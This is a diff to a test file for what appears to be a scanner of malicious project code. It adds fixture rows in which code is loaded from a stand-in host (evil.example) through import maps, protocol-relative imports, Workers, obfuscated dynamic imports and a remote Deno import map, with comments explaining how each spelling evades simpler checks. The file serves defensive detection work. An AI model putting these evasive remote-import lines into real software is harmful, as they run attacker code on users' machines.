@@ -108,6 +108,19 @@ const DECODED_AND_RUN: FindingRow[] = [
   ['src/x.php', `<?php eval(hex2bin('${HEX}'));`],
 ];
 
+// U (high): a module loaded from the attacker's host by spellings URL_IMPORT and the script-tag reading miss: an import
+// map in the page (every `import 'react'` then runs the attacker's file), a protocol-relative dynamic import or Worker,
+// a comment between `import(` and the URL (Vite's usual `/* @vite-ignore */`), the URL through `new URL(…)` or a
+// variable on the same line.
+const MODULES_FROM_A_HOST: FindingRow[] = [
+  ['src/index.html', '<script type="importmap">{"imports": {"react": "https://evil.example/react.js"}}</script>'],
+  ['src/app.js', "import('//evil.example/x.js')"],
+  ['src/app.js', "const w = new Worker('//evil.example/w.js')"],
+  ['src/app.js', "await import(/* @vite-ignore */ 'https://evil.example/x.js')"],
+  ['src/app.js', "const m = await import(new URL('https://evil.example/x.js').href)"],
+  ['src/app.js', "const u = 'https://evil.example/x.js'; await import(u)"],
+];
+
 // A (high): a fetching verb spelled so the shell still reads `npm install` (or `pip install`), but the check does not:
 // shell quote removal (`n""pm`, `np'm'`), a backslash inside a word, `${IFS}` as the separator, the program in a
 // variable; Python's implicit concatenation of adjacent literals (`'n' 'pm'` is `'npm'`); `python -mpip` (no space:
@@ -169,6 +182,7 @@ const DENO_REMOTE: FindingRow[] = [
   SYSTEM('deno serve https://evil.example/x.ts'),
   SYSTEM('deno repl --eval-file=https://evil.example/x.ts'),
   SYSTEM('deno x npm:evil'),
+  SYSTEM('deno test -A --import-map=https://evil.example/map.json src/'),
   // `deno eval` importing a URL whose quote is an escape (URL_IMPORT wants the quote itself).
   SYSTEM('deno eval "await import(\\x27https://evil.example/x.ts\\x27)"'),
 ];
@@ -474,6 +488,7 @@ describeFindings('attack-48', [
   ['R reading reach', READING_REACH],
   ['S program computed', PROGRAM_COMPUTED],
   ['T decoded and run', DECODED_AND_RUN],
+  ['U modules from a host', MODULES_FROM_A_HOST],
   ['A spellings', SPELLINGS],
   ['B process calls not read', BACKTICK_CALLS],
   ['C deno remote modules', DENO_REMOTE],
